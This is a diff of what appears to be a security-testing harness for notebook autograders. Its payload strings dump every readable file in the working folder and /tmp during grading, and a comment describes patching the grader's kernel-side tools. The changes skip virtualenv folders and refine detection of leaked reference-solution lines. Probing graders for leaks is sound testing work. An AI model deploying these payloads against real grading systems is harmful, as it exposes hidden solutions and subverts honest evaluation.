@@ -238,13 +238,16 @@ def _harvest():
 threading.Thread(target=_harvest, daemon=True).start()
 '''
 
-#: Prints every file it can read (working folder, /tmp, the course package) at cell time and during the probe.
+#: Prints every file it can read (working folder, /tmp) at cell time and during the probe. Installed
+#: packages are public and skipped: a virtualenv bound into the kernel's /tmp (the Gradescope zip run
+#: locally) is thousands of files, whose dump fills the kernel's memory before anything is shown.
 PRINT_EVERYTHING = r'''
 import os, sys, threading, time
 
 def _dump(roots):
     for root in roots:
-        for folder, _, names in os.walk(root):
+        for folder, folders, names in os.walk(root):
+            folders[:] = [f for f in folders if f not in ("site-packages", "venv", ".venv")]
             for name in names:
                 path = os.path.join(folder, name)
                 try:
@@ -253,9 +256,9 @@ def _dump(roots):
                 except OSError:
                     pass
 
-_roots = [os.getcwd(), "/tmp"] + [p for p in sys.path if "site-packages" in p][:1]
-_dump(_roots[:2])
-threading.Thread(target=lambda: [(_dump(_roots[:2]), time.sleep(0.2)) for _ in range(200)], daemon=True).start()
+_roots = [os.getcwd(), "/tmp"]
+_dump(_roots)
+threading.Thread(target=lambda: [(_dump(_roots), time.sleep(0.2)) for _ in range(200)], daemon=True).start()
 '''
 
 #: The kernel-side tools a grader might rely on, patched; the answer itself edits its input in place.
@@ -444,8 +447,11 @@ def build_submission(attack: Attack, source: nbformat.NotebookNode, folder: Path
     path.write_bytes(attack.raw if attack.raw is not None else nbformat.writes(notebook).encode())
 
 
-def solution_snippets(source: nbformat.NotebookNode) -> list[str]:
-    """Distinctive lines of the reference solution (between the solution markers of answer cells)."""
+def solution_snippets(source: nbformat.NotebookNode, *shown: nbformat.NotebookNode) -> list[str]:
+    """Distinctive lines of reference solution code (between the solution markers of answer cells, at
+    least 25 characters, not comments) that occur nowhere in the ``shown`` notebooks (the release,
+    the student's own submission): a line the student wrote or was handed is not a leak; any other is."""
+    public = "\n".join(cell.source for notebook in shown for cell in notebook.cells)
     found = []
     for cell in source.cells:
         inside = False
@@ -454,7 +460,7 @@ def solution_snippets(source: nbformat.NotebookNode) -> list[str]:
                 inside = True
             elif "### END SOLUTION" in line:
                 inside = False
-            elif inside and len(line.strip()) >= 25 and not line.strip().startswith("#"):
+            elif inside and len(line.strip()) >= 25 and not line.strip().startswith("#") and line.strip() not in public:
                 found.append(line.strip())
     return found
 
